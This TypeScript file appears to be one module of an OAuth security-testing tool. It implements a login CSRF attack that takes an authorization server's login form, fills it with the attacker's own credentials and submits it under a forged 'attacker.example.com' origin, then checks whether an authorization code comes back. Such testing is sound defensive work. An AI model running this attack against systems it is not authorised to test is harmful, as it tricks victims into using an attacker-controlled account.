/** The victim's browser is made to log in to the attacker's account (RFC 6749 §10.12, RFC 9700 §4.7). */
import { type Attack, fails, notJudged, succeeds } from '../attack.ts';
import { authorizationParameters, type Login, submission, withQuery } from '../moves/log-in.ts';
import { findForm } from '../moves/login-form.ts';
import { makePkce } from '../moves/pkce.ts';

export const loginCsrf: Attack = {
  name: 'login-csrf',
  threat: null,
  says: 'Takes a login form from their own browser and makes the victim’s browser submit it, with their own password.',
  needs: [],
  about: 'app',
  severity: 'medium',
  async act({ recorder, client }) {
    const { authorize } = recorder.target.endpoints;
    const what = 'Opens the login page in their own browser and keeps its form.';
    const login: Login = { client, flow: 'web-server', what, challenge: makePkce().challenge };
    const url = withQuery(authorize, authorizationParameters(login));
    const page = await recorder.send('attacker', what, { method: 'GET', url });
    const form = findForm(page.body, url);
    if (form?.passwordField === undefined) return notJudged('The authorization endpoint showed no login form.');
    const fields = { ...form.fields };
    if (form.usernameField !== undefined) fields[form.usernameField] = client.user.username;
    fields[form.passwordField] = client.user.password;
    // The victim's browser has none of the cookies that the attacker's was given.
    const forged = await recorder.send(
      'attacker',
      'A page of theirs makes the victim’s browser submit that form.',
      submission(form.method, form.action, fields, { origin: 'https://attacker.example.com' }),
    );
    const location = forged.headers.location;
    const loggedIn = typeof location === 'string' && /[?&]code=/.test(location);
    return loggedIn
      ? succeeds('The victim’s browser is logged in to the attacker’s account.')
      : fails('The form works only in the browser that was shown it.');
  },
};
